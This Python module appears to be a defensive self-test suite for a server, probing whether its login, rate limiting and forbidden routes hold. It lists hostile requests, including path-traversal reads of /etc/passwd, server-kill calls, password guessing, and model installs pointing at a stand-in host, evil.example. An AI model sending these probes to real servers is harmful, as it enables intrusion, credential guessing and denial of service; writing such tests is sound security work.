"""Attacks on the login, and on what nobody may do."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any

from velatura.server.guard import OPEN_PATHS

if TYPE_CHECKING:
    from collections.abc import Iterator

    from velatura.server.attacks.client import Target

GUESSES = 30
POWERS = (
    ("POST", "/sdapi/v1/server-kill"),
    ("POST", "/sdapi/v1/server-stop"),
    ("POST", "/sdapi/v1/server-restart"),
    ("POST", "/sdapi/v1/create/embedding"),
    ("POST", "/sdapi/v1/train/embedding"),
    ("POST", "/api/models/install"),
    ("POST", "/api/v2/models/install"),
    ("POST", "/api/models"),
    ("GET", "/api/v2/models/scan_folder?scan_path=/"),
    ("GET", "/file=/etc/passwd"),
    ("GET", "/view?filename=passwd&subfolder=/etc"),
    ("POST", "/upload/image"),
    ("PUT", "/api/options"),
    ("DELETE", "/api/pictures"),
    ("TRACE", "/api/jobs"),
)


def routes(target: Target) -> Iterator[tuple[str, str]]:
    """Method and path of every route, as the server itself tells; ids are made up."""
    reply = target.ask("GET", "/api/openapi.json")
    document: dict[str, Any] = json.loads(reply.body) if reply.status == 200 else {}
    for path, methods in document.get("paths", {}).items():
        for method in methods:
            filled = path.replace("{job_id}", "0" * 32).replace("{picture_id}", "0" * 64)
            yield method.upper(), filled


def needs_login(target: Target) -> bool:
    """Whether the server wants to know who asks."""
    return target.ask("GET", "/api/jobs", is_known=False).status == 401


def try_without_login(target: Target) -> str:
    """Use every route as a stranger."""
    if not needs_login(target):
        return "" if target.host in ("127.0.0.1", "localhost", "::1") else "there is no login"
    asked = [*routes(target), ("GET", "/metrics"), ("GET", "/api/openapi.json")]
    if len(asked) < 10:
        return "the routes cannot be listed with this token"
    for method, path in asked:
        if path in OPEN_PATHS:
            continue
        headers = {"Content-Type": "application/json"}
        reply = target.ask(method, path, headers=headers, is_known=False)
        if reply.status not in (401, 429):
            return f"{method} {path} is answered by {reply.status} without a login"
    return ""


def try_guessing(target: Target) -> str:
    """Guess until the server has had enough."""
    if not needs_login(target):
        return ""
    for number in range(GUESSES):
        secret = base64.b64encode(f"user:guess-{number}".encode()).decode()
        headers = {"Authorization": f"Basic {secret}"}
        reply = target.ask("GET", "/api/jobs", headers=headers)
        if reply.status == 429:
            return ""
        if reply.status != 401:
            return f"a wrong password is answered by {reply.status}"
    return f"{GUESSES} wrong passwords were all answered without a pause"


def try_power(target: Target) -> str:
    """Do what no client may."""
    for method, path in POWERS:
        headers = {"Content-Type": "application/json"}
        body = b'{"source": "http://evil.example/x.ckpt"}' if method == "POST" else b""
        reply = target.ask(method, path, headers=headers, body=body)
        if reply.status not in (0, 400, 403, 404, 405, 501):
            return f"{method} {path} is answered by {reply.status}"
    if target.ask("GET", "/api/health").status not in (200, 503):
        return "the server was stopped"
    return ""
